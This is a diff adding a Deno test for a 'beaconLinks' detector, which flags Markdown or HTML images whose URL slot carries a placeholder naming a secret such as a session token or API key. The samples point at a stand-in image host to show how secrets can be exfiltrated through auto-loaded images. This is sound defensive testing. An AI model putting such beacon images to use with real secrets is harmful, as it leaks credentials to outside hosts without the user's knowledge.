@@ -90,3 +90,33 @@ Deno.test("a bare address shown as an image, and a command substitution, are slo
   beaconLinks(t);
   assert.ok(performance.now() - t0 < 5000);
 });
+
+Deno.test("an image whose slot is a fill-in placeholder naming a secret is a beacon", () => {
+  assert.equal(
+    beaconLinks(
+      "Done. ![status](https://img.example/p.png?d=INSERT_THE_SESSION_TOKEN_HERE)",
+    ).length,
+    1,
+  );
+  assert.equal(
+    beaconLinks('<img src="https://img.example/p.png?k=PASTE_API_KEY">')
+      .length,
+    1,
+  );
+  // A link (not an image) in API docs, and placeholders naming no secret, are not.
+  assert.equal(
+    beaconLinks(
+      "[Try it](https://api.example.com/v1/q?key=INSERT_API_KEY_HERE)",
+    ).length,
+    0,
+  );
+  assert.equal(
+    beaconLinks("![chart](https://img.example/c.png?title=INSERT_TITLE_HERE)")
+      .length,
+    0,
+  );
+  assert.equal(
+    beaconLinks("![b](https://img.example/b.svg?key=YOUR_API_KEY)").length,
+    0,
+  );
+});
